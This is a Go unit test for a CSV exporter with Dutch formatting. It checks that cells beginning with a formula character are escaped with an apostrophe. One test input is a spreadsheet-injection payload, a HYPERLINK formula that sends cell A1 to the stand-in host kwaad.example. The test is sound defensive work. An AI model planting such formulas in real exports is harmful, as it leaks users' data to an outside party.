package web

import (
	"strings"
	"testing"
	"time"
)

func TestCSV(t *testing.T) {
	x := NewCSV("Titel", "Prijs", "Aantal", "Score", "Datum", "Link")
	day := time.Date(2026, 3, 9, 23, 30, 0, 0, time.UTC) // 10 March in Amsterdam
	x.Row(`=HYPERLINK("http://kwaad.example/?x="&A1;"Klik")`, Money(89500), 3, Decimal{4.25, 1}, day, "https://leren.example.nl/gids/aanbod/1")
	x.Row("-1+1", Money(-5), int64(-2), 0.5, (*time.Time)(nil), "@SUM(A1)")
	got := string(x.Bytes())
	want := "\uFEFFTitel;Prijs;Aantal;Score;Datum;Link\r\n" +
		`"'=HYPERLINK(""http://kwaad.example/?x=""&A1;""Klik"")";895,00;3;4,2;10-03-2026;https://leren.example.nl/gids/aanbod/1` + "\r\n" +
		"'-1+1;-0,05;-2;0,5;;'@SUM(A1)\r\n"
	if got != want {
		t.Errorf("CSV:\n%q\nwant\n%q", got, want)
	}
	if strings.Count(got, "\n") != strings.Count(got, "\r\n") {
		t.Error("a line ends in LF only")
	}
}
